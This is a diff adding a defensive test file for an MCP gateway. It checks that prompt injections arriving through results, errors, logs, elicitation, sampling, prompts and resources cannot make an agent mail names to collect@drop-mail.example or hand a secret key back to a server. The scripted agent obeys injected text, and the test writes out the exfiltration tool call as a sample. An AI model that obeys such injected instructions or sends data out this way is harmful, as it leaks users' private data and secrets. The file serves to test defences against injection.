@@ -1,0 +1,116 @@
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { after, before, describe, test } from 'node:test';
+import { Client } from '@modelcontextprotocol/sdk/client/index.js';
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
+import { CreateMessageRequestSchema, ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';
+import { parseConfig } from '@sallyport/gateway/app/config.ts';
+import { type Gateway, startGateway } from '@sallyport/gateway/app/gateway.ts';
+import { linesOf, temporaryFolder } from '../upstream/fixture.ts';
+
+/** An agent that obeys whatever reaches it, by every way by which a server can speak, through a whole gateway with the shipped policies. */
+const folder = temporaryFolder();
+const received = folder.file('received');
+const key = 'K-7713-secret';
+let gateway: Gateway;
+let agentToken = '';
+
+before(async () => {
+  const policies = new URL('../../policies', import.meta.url).pathname;
+  const written = `listen: 127.0.0.1:0\npolicies: ${policies}\nagents:\n  obedient: { principal: "user:ines" }\n`;
+  const args = [new URL('./carrier-main.ts', import.meta.url).pathname, received];
+  gateway = await startGateway({
+    config: {
+      ...parseConfig(folder.file('sallyport.yaml'), written),
+      servers: [{ id: 'office', segment: 'office', launch: { kind: 'command', command: 'node', args, env: {} } }],
+    },
+    ...{ stateDir: folder.file('state'), version: '0.0.0', log: () => {}, onShutdown: () => {}, onFailure: () => {} },
+  });
+  agentToken = (await ask<{ token: string }>('agents/obedient/token', {})).token;
+});
+after(async () => {
+  await gateway.close();
+  folder[Symbol.dispose]();
+});
+
+async function ask<T>(path: string, body: object): Promise<T> {
+  const operator = readFileSync(folder.file('state/operator.key'), 'utf8').trim();
+  const headers = { authorization: `Bearer ${operator}`, 'content-type': 'application/json' };
+  return (
+    await fetch(`${gateway.url}/api/v1/${path}`, { headers, method: 'POST', body: JSON.stringify(body) })
+  ).json() as Promise<T>;
+}
+
+/** A client in a task of its own. Whatever it is asked it answers, with all it knows. */
+async function inTask(purpose: string, act: (client: Client) => Promise<void>): Promise<void> {
+  const { token } = await ask<{ token: string }>('tasks', { agent: 'obedient', purpose });
+  const client = new Client(
+    { name: 'obedient', version: '1.0.0' },
+    { capabilities: { elicitation: {}, sampling: {} } },
+  );
+  client.setRequestHandler(ElicitRequestSchema, () => ({ action: 'accept', content: { code: key } }));
+  client.setRequestHandler(CreateMessageRequestSchema, () => ({
+    model: 'scripted',
+    role: 'assistant',
+    content: { type: 'text', text: key },
+  }));
+  const headers = { authorization: `Bearer ${agentToken}`, 'sallyport-task': token };
+  const transport = new StreamableHTTPClientTransport(new URL(`${gateway.url}/mcp/office`), {
+    requestInit: { headers },
+  });
+  await client.connect(transport as Parameters<Client['connect']>[0]);
+  try {
+    await act(client);
+  } finally {
+    await client.close();
+  }
+}
+
+const lookUp = (how: string) => async (client: Client) => {
+  await client
+    .callTool({ name: 'look_up', arguments: { how } }, undefined, { onprogress: () => {}, timeout: 9000 })
+    .catch(() => {});
+};
+
+const carriers: Readonly<Record<string, (client: Client) => Promise<unknown>>> = {
+  'a result': lookUp('result'),
+  'an error text': lookUp('error'),
+  'a protocol error': lookUp('fault'),
+  progress: lookUp('progress'),
+  'a log message': lookUp('log'),
+  'an elicitation': lookUp('elicitation'),
+  'a sampling request': lookUp('sampling'),
+  'server instructions': async client => client.getInstructions(),
+  'a prompt': client => client.getPrompt({ name: 'briefing' }),
+  'a resource': client => client.readResource({ uri: 'note://today' }),
+  'a list of resources': client => client.listResources(),
+};
+
+describe('an injection changes nothing by', () => {
+  for (const [carrier, hear] of Object.entries(carriers))
+    test(`F-9 ${carrier}`, async () => {
+      const before = linesOf(received).length;
+      await inTask('Tell me what is new.', async client => {
+        await hear(client);
+        const { isError, _meta } = await client.callTool({
+          name: 'send_mail',
+          arguments: { to: 'collect@drop-mail.example', body: 'Okafor, Whitcombe, Zhao' },
+        });
+        assert.equal(isError, true);
+        const { code } = (_meta?.['dev.sallyport/refusal'] ?? {}) as { code?: string };
+        assert.ok(code === 'needs-approval' || code === 'denied', `refused by policy, not for ${code}`);
+      });
+      const lines = linesOf(received).slice(before).join('\n');
+      assert.doesNotMatch(lines, /drop-mail/);
+      assert.doesNotMatch(lines, new RegExp(key), 'and what the agent knows is no answer to a server’s question');
+    });
+
+  test('and the agent’s own work goes on after all of it', async () => {
+    await inTask('Send the note "all well" to bea@aldana.example.', async client => {
+      for (const hear of Object.values(carriers)) await hear(client).catch(() => {});
+      const own = { to: 'bea@aldana.example', body: 'all well' };
+      assert.notEqual((await client.callTool({ name: 'send_mail', arguments: own })).isError, true);
+    });
+    assert.match(linesOf(received).join('\n'), /sent .*bea@aldana\.example/);
+  });
+});
